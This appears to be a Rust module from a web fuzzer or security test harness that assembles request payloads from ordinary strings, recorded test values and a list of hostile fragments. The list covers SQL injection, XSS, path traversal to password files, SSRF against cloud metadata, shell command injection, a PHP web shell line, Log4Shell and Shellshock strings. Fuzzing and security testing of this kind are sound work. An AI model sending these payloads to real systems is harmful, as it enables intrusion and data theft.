//! What is put into requests.

use std::collections::BTreeSet;

use crate::exchange::Exchange;
use crate::percent::percent_decoded;
use crate::random::Random;

/// The longest payload taken from a test, in bytes.
const MAX_BYTES: usize = 1_024;

/// Ordinary input.
const BENIGN: &[&str] = &[
    "hello world",
    "42",
    "-1.5e3",
    "",
    "a",
    "O'Brien",
    "Smith & Sons",
    "john.doe@example.com",
    "https://shop.example.com/products?id=7&sort=price#reviews",
    "The quick brown fox; it jumps over the lazy dog.",
    "2026-11-21T14:00:00Z",
    "50% off (today only)",
    "C:\\Users\\Public\\notes.txt",
    "SELECT your seat from the list",
    "1 = 1 is true",
    "<b>bold</b>",
    "{\"nested\": [1, 2, {\"a\": null}]}",
    "Grüße aus Köln",
    "日本語のテキスト",
    "price > 100 and price < 200",
    "line one\nline two\r\nline three",
    "tab\tseparated",
    "e30=",
    "./docs/../readme.md",
    "foo=bar&baz",
    "a+b c",
];

/// Pieces attacks are made of; joined at random.
const HOSTILE: &[&str] = &[
    "' OR '1'='1",
    "1; DROP TABLE users--",
    "1 UNION ALL SELECT NULL,@@version,3",
    "\" or \"\"=\"",
    "admin'/*",
    "sleep(5)#",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "<svg/onload=confirm(1)>",
    "<iframe srcdoc='<b>'>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/shadow",
    "http://169.254.169.254/latest/meta-data/",
    "; cat /etc/passwd",
    "| whoami",
    "$(id)",
    "`uname -a`",
    "&& ping -c 1 127.0.0.1",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://x.example.com/a}",
    "{{7*7}}",
    "__proto__[x]",
    "O:8:\"stdClass\":0:{}",
    "%0d%0aSet-Cookie: a=b",
    "\r\nX-Injected: 1",
    "<!--#exec cmd=\"ls\"-->",
    "(&(uid=*)(cn=*))",
    "require('child_process').exec('id')",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "() { :; }; echo x",
    "c:\\boot.ini%00.jpg",
    "\u{ff1c}script\u{ff1e}",
    "\u{2018} or 1=1 \u{2018}",
];

/// Values of the arguments, cookies and some headers of the tests, and small bodies whole.
pub(super) fn collect(cases: &[Exchange]) -> Vec<Vec<u8>> {
    let mut all = BTreeSet::new();
    for case in cases {
        let query = case.target.split_once('?').map_or("", |(_, query)| query);
        for text in [query.as_bytes(), &case.body] {
            for pair in text.split(|byte| *byte == b'&') {
                let at = pair.iter().position(|byte| *byte == b'=').map_or(0, |at| at + 1);
                all.insert(percent_decoded(pair.get(at..).unwrap_or_default()));
            }
        }
        for (name, value) in &case.headers {
            if ["user-agent", "referer", "cookie"].contains(&name.to_ascii_lowercase().as_str()) {
                let at = value.find('=').filter(|_| name.eq_ignore_ascii_case("cookie"));
                let value = at.and_then(|at| value.get(at + 1..)).unwrap_or(value);
                all.insert(percent_decoded(value.as_bytes()));
            }
        }
    }
    all.into_iter().filter(|payload| (1..=MAX_BYTES).contains(&payload.len())).collect()
}

/// One payload: ordinary, of the tests, or pieces joined.
pub(super) fn pick(random: &mut Random, payloads: &[Vec<u8>]) -> Vec<u8> {
    match random.below(10) {
        0..4 => random.pick(BENIGN).as_bytes().to_vec(),
        4..8 => random.one_of(payloads),
        _ => {
            let mut joined = Vec::new();
            for _ in 0..=random.below(3) {
                let list = if random.chance(70) { HOSTILE } else { BENIGN };
                joined.extend_from_slice(random.pick(list).as_bytes());
                joined.extend_from_slice(
                    random.pick(&["", " ", ";", "\n", "/", "'", "\""]).as_bytes(),
                );
            }
            joined
        }
    }
}
